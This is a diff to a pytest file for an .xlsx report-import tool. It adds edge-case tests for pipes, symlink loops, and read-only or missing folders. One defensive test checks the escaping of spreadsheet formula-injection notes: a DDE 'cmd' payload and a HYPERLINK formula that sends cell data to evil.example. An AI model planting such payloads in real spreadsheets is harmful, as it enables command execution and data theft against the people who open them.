@@ -9,9 +9,11 @@ from __future__ import annotations
 import os
 import re
 import resource
+import shutil
 import struct
 import subprocess
 import sys
+import tempfile
 import threading
 import time
 import zipfile
@@ -440,6 +442,17 @@ def error_lines(error: str) -> list[str]:
     ]
 
 
+def loop_link(path: Path) -> Path:
+    os.symlink(path, path)
+    return path
+
+
+def fifo(tmp_path: Path) -> Path:
+    path = tmp_path / "bang-rak.xlsx"
+    os.mkfifo(path)
+    return path
+
+
 # name → (make the workbook(s) in tmp_path; the lines the import prints for it, {book} standing
 # for the path given; the exit code)
 CASES: dict[str, tuple[Callable[[Path], Path], list[str], int]] = {
@@ -709,7 +722,15 @@ CASES: dict[str, tuple[Callable[[Path], Path], list[str], int]] = {
     "a device (/dev/zero)": (
         lambda tmp_path: Path("/dev/zero"),
         [
-            "{book}: E801 a device or a socket, not a file",
+            "{book}: E801 found a device, expected a file",
+            "    hint: give the .xlsx file",
+        ],
+        1,
+    ),
+    "a named pipe (FIFO) named .xlsx": (  # it hung: open() waits for a writer
+        fifo,
+        [
+            "{book}: E801 found a named pipe (FIFO), expected a file",
             "    hint: give the .xlsx file",
         ],
         1,
@@ -717,6 +738,11 @@ CASES: dict[str, tuple[Callable[[Path], Path], list[str], int]] = {
     "a folder named x.xlsx": (
         folder_named_xlsx,
         ["okrtool: {book}: no workbooks (.xlsx) in this folder"],
+        2,
+    ),
+    "a symbolic link that loops, named .xlsx": (
+        lambda tmp_path: loop_link(tmp_path / "bang-rak.xlsx"),
+        ["okrtool: {book}: a symbolic link that loops onto itself"],
         2,
     ),
     "a path that does not exist": (
@@ -835,7 +861,7 @@ def test_escaping_leaves_numbers_alone_and_reads_back() -> None:
 
 def test_formula_like_notes_and_file_name_are_escaped_in_the_report_file(tmp_path: Path) -> None:
     root = copy_dataset(tmp_path)
-    rows = [[kr, "2567-07", n, note] for n, (kr, note) in enumerate(INJECTIONS.items(), 1)]
+    rows = [[kr, "2567-07", n * 10, note] for n, (kr, note) in enumerate(INJECTIONS.items(), 1)]
     path = book(tmp_path / "@report.xlsx", rows)  # notes typed as text, as after a '
     code, out = run("import-reports", "--data", str(root), str(path))
     assert code == 0, out
@@ -844,12 +870,12 @@ def test_formula_like_notes_and_file_name_are_escaped_in_the_report_file(tmp_pat
     digest = re.search(r",([0-9a-f]{64}),", text).group(1)  # type: ignore[union-attr]
     imported = [line for line in text.splitlines() if ",2567-07," in line]
     assert imported == [
-        f"canals-dredged,2567-07,4,import,'-2+3,'@report.xlsx,{digest},Sheet1!C6,{stamp}",
-        f"trees-perennial,2567-07,2,import,'+cmd|' /C calc'!A0,'@report.xlsx,{digest},Sheet1!C4,{stamp}",
-        "trees-planted,2567-07,1,import,"
+        f"canals-dredged,2567-07,40,import,'-2+3,'@report.xlsx,{digest},Sheet1!C6,{stamp}",
+        f"trees-perennial,2567-07,20,import,'+cmd|' /C calc'!A0,'@report.xlsx,{digest},Sheet1!C4,{stamp}",
+        "trees-planted,2567-07,10,import,"
         '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",'
         f"'@report.xlsx,{digest},Sheet1!C3,{stamp}",
-        f"trees-waste-collected,2567-07,3,import,'@SUM(1),'@report.xlsx,{digest},Sheet1!C5,{stamp}",
+        f"trees-waste-collected,2567-07,30,import,'@SUM(1),'@report.xlsx,{digest},Sheet1!C5,{stamp}",
     ]
     assert run("validate", str(root))[0] == 0
     before = snapshot(root)
@@ -920,7 +946,17 @@ def test_a_control_character_in_a_policy_title_is_refused_before_any_template(
         "policies/environment/trees.yaml:2:11: E103 title_th: found 'ปลูก\\x01ต้นไม้', "
         "expected text without control characters (it holds U+0001)"
     ) in out
-    code, out = run("report-template", "-d", str(root), "--agency", "bang-rak", "--period", "2567-07", "-o", str(tmp_path / "t.xlsx"))
+    code, out = run(
+        "report-template",
+        "-d",
+        str(root),
+        "--agency",
+        "bang-rak",
+        "--period",
+        "2567-07",
+        "-o",
+        str(tmp_path / "t.xlsx"),
+    )
     assert code == 1
     assert "the data folder has 1 error(s)" in " ".join(out.split())
     assert not (tmp_path / "t.xlsx").exists()
@@ -934,3 +970,262 @@ def test_a_control_character_is_never_written_into_an_xlsx() -> None:
 
     cell = xl.Workbook().active["A1"]
     assert xlsx_text(cell, "ปลูก\x01ต้นไม้").value == "ปลูก\ufffdต้นไม้"
+
+
+# --- a data folder or an output that cannot be used: one line, exit 2, nothing touched ------------
+
+
+def data_file(tmp_path: Path) -> Path:
+    path = tmp_path / "data.txt"
+    path.write_text("not a folder", encoding="utf-8")
+    return path
+
+
+def data_loop(tmp_path: Path) -> Path:
+    os.symlink(tmp_path / "loop", tmp_path / "loop")
+    return tmp_path / "loop"
+
+
+DATA_CASES: dict[str, tuple[Callable[[Path], Path], str]] = {
+    "a data folder that does not exist": (
+        lambda tmp_path: tmp_path / "nowhere",
+        "okrtool: --data {data}: no such folder",
+    ),
+    "a file as --data": (
+        data_file,
+        "okrtool: --data {data}: not a folder; expected the data folder (like data/)",
+    ),
+    "a symbolic link loop as --data": (
+        data_loop,
+        "okrtool: --data {data}: a symbolic link that loops onto itself; expected the data "
+        "folder (like data/)",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", list(DATA_CASES))
+def test_a_data_folder_that_cannot_be_used_is_one_line_and_exit_2(
+    tmp_path: Path, name: str
+) -> None:
+    make, expected = DATA_CASES[name]
+    given = make(tmp_path)
+    workbook = book(tmp_path / "bang-rak.xlsx", [GOOD_ROW])
+    before = snapshot(tmp_path)
+
+    code, lines, _, _ = import_bounded(given, str(workbook))
+
+    assert (code, lines) == (2, [expected.format(data=given)])
+    after = snapshot(tmp_path)
+    after.pop("import-output.txt")
+    assert after == before  # no lock file made anywhere
+
+
+@pytest.mark.parametrize(
+    ("args", "expected"),
+    [
+        (
+            ["-a", "bang-rak", "-o", "{tmp}/missing/br.xlsx"],
+            "okrtool: --output {tmp}/missing/br.xlsx: no folder {tmp}/missing/ to write into; "
+            "make it first, or write elsewhere",
+        ),
+        (
+            ["-a", "all", "-o", "{tmp}/missing/out"],
+            "okrtool: --output {tmp}/missing/out: no folder {tmp}/missing/ to make it in; "
+            "make it first",
+        ),
+        (
+            ["-a", "all", "-o", "{tmp}/notes.txt"],
+            "okrtool: --output {tmp}/notes.txt: not a folder; expected a folder to write into",
+        ),
+        (
+            ["-a", "bang-rak", "-o", "{tmp}/notes.txt/br.xlsx"],
+            "okrtool: --output {tmp}/notes.txt/br.xlsx: {tmp}/notes.txt is not a folder; "
+            "expected a folder to write into",
+        ),
+    ],
+    ids=[
+        "a file in a missing folder",
+        "all into a folder of a missing folder",
+        "all onto an existing file",
+        "a file inside a file",
+    ],
+)
+def test_a_template_output_that_cannot_be_used_is_one_line_and_exit_2(
+    tmp_path: Path, args: list[str], expected: str
+) -> None:
+    root = copy_dataset(tmp_path)
+    (tmp_path / "notes.txt").write_text("not a folder", encoding="utf-8")
+    args = [a.format(tmp=tmp_path) for a in args]
+
+    code, output = run("report-template", "--data", str(root), *args, "-p", "2567-07")
+
+    assert (code, output) == (2, expected.format(tmp=tmp_path) + "\n")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "notes.txt"]
+
+
+def as_nobody(*args: str) -> tuple[int, list[str]]:
+    """Run `okrtool ARGS` as an unprivileged user: as uid/gid 65534 through setpriv when the
+    tests run as root (CI does: root may write anywhere), else as the user running them."""
+    command = [sys.executable, "-m", "okrtool", *args]
+    if os.geteuid() == 0:
+        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
+    env = {**os.environ, "NO_COLOR": "1", "OKRTOOL_NO_CACHE": "1"}
+    proc = subprocess.run(command, capture_output=True, text=True, env=env, timeout=60)
+    return proc.returncode, (proc.stdout + proc.stderr).splitlines()
+
+
+@pytest.fixture
+def shared(tmp_path: Path) -> Path:
+    """A folder that uid 65534 can read (pytest's own tmp_path is the running user's alone)."""
+    if os.geteuid() == 0 and shutil.which("setpriv") is None:
+        pytest.skip("running as root without setpriv: no way to run okrtool as another user")
+    folder = Path(tempfile.mkdtemp(prefix="okrtool-shared-"))
+    folder.chmod(0o755)
+    yield folder
+    for path in [folder, *folder.rglob("*")]:
+        if path.is_dir() and not path.is_symlink():
+            path.chmod(0o755)
+    shutil.rmtree(folder)
+
+
+def nobodys(folder: Path) -> Path:
+    """``folder`` and all in it made the user's of ``as_nobody`` (when running as root)."""
+    if os.geteuid() == 0:
+        for path in [folder, *folder.rglob("*")]:
+            os.chown(path, 65534, 65534, follow_symlinks=False)
+    return folder
+
+
+def read_only(*folders: Path) -> None:
+    for folder in folders:
+        folder.chmod(0o555)
+
+
+@pytest.mark.parametrize(
+    ("folders", "expected"),
+    [
+        (
+            [""],
+            "okrtool: {data}: cannot write in this folder (permission denied), and an import "
+            "writes its lock file there; nothing was imported (import as a user who may write "
+            "there; --dry-run writes nothing)",
+        ),
+        (
+            ["reports", "reports/2567"],
+            "okrtool: {data}/reports: cannot write in this folder (permission denied), and an "
+            "import writes report files there; nothing was imported (import as a user who may "
+            "write there; --dry-run writes nothing)",
+        ),
+        (
+            ["reports/2567"],
+            "okrtool: {data}/reports/2567: cannot write in this folder (permission denied), and "
+            "an import writes report files there; nothing was imported (import as a user who "
+            "may write there; --dry-run writes nothing)",
+        ),
+    ],
+    ids=["a read-only data folder", "a read-only reports folder", "a read-only year folder"],
+)
+def test_a_read_only_data_folder_is_one_line_and_exit_2(
+    shared: Path, folders: list[str], expected: str
+) -> None:
+    root = nobodys(copy_dataset(shared))
+    workbook = book(shared / "bang-rak.xlsx", [GOOD_ROW])
+    read_only(*[root / f for f in folders])
+    before = snapshot(root)
+
+    code, lines = as_nobody("import-reports", "--data", str(root), str(workbook))
+
+    assert (code, lines) == (2, [expected.format(data=root)])
+    assert snapshot(root) == before
+    code, lines = as_nobody("import-reports", "--dry-run", "--data", str(root), str(workbook))
+    assert (code, lines[-1]) == (
+        0,
+        "Would merge 1 of 1 file: 1 added, 0 changed, 0 unchanged. Dry run: nothing was written.",
+    )
+
+
+def test_a_template_into_a_read_only_folder_is_one_line_and_exit_2(shared: Path) -> None:
+    root = copy_dataset(shared)
+    out = shared / "out"
+    out.mkdir()
+    read_only(nobodys(out))
+
+    code, lines = as_nobody(
+        "report-template", "--data", str(root), "-a", "bang-rak", "-p", "2567-07",
+        "-o", str(out / "br.xlsx"),
+    )  # fmt: skip
+
+    assert (code, lines) == (
+        2,
+        [f"okrtool: --output {out}/: cannot write in this folder (permission denied); write "
+         "elsewhere with -o"],
+    )  # fmt: skip
+    assert list(out.iterdir()) == []
+
+
+def gnumeric_like(path: Path) -> Path:
+    """A workbook whose styles part has no named style, as Gnumeric writes them: openpyxl
+    warns "Workbook contains no default style" reading it."""
+    parts = package([("Sheet1", rows_xml([*TOP, GOOD_ROW]), "visible")])
+    parts["xl/styles.xml"] = (
+        f'<?xml version="1.0" encoding="UTF-8"?>\n<styleSheet xmlns="{MAIN}">'
+        '<fonts count="1"><font/></fonts><fills count="1"><fill><patternFill patternType="none"/>'
+        '</fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf/>'
+        '</cellStyleXfs><cellXfs count="1"><xf/></cellXfs></styleSheet>'
+    )
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        "</Relationships>",
+        f'<Relationship Id="rId99" Type="{DOC}/styles" Target="styles.xml"/></Relationships>',
+    )
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        "</Types>",
+        '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-'
+        'officedocument.spreadsheetml.styles+xml"/></Types>',
+    )
+    return write_zip(path, parts)
+
+
+def test_a_workbook_without_a_default_style_is_read_without_openpyxls_warning(
+    tmp_path: Path,
+) -> None:
+    root = copy_dataset(tmp_path)
+    path = gnumeric_like(tmp_path / "bang-rak-gnumeric.xlsx")
+
+    code, lines, _, _ = import_bounded(root, str(path))
+
+    assert code == 0, "\n".join(lines)
+    assert [line for line in lines if "Warning" in line or "default style" in line] == []
+    assert lines[-1] == "Merged 1 of 1 file: 1 added, 0 changed, 0 unchanged."
+    assert stored(root, "trees-planted", "2567-07") == "10"
+
+
+def test_a_workbook_in_a_folder_the_user_may_not_enter_is_one_line_and_exit_2(
+    shared: Path,
+) -> None:
+    root = copy_dataset(shared)
+    locked = shared / "locked"
+    locked.mkdir()
+    workbook = book(locked / "bang-rak.xlsx", [GOOD_ROW])
+    locked.chmod(0o700 if os.geteuid() == 0 else 0)  # root's alone, or nobody's
+    before = snapshot(root)
+
+    code, lines = as_nobody("import-reports", "--dry-run", "--data", str(root), str(workbook))
+
+    assert (code, lines) == (2, [f"okrtool: {workbook}: cannot be read (Permission denied)"])
+    assert snapshot(root) == before
+
+
+def test_a_template_into_a_folder_the_user_may_not_enter_is_one_line_and_exit_2(
+    shared: Path,
+) -> None:
+    root = copy_dataset(shared)
+    locked = shared / "locked"
+    (locked / "in").mkdir(parents=True)
+    locked.chmod(0o700 if os.geteuid() == 0 else 0)  # root's alone, or nobody's
+    out = locked / "in" / "br.xlsx"
+
+    code, lines = as_nobody(
+        "report-template", "--data", str(root), "-a", "bang-rak", "-p", "2567-07", "-o", str(out)
+    )
+
+    assert (code, lines) == (2, [f"okrtool: --output {out}: cannot be used (Permission denied)"])
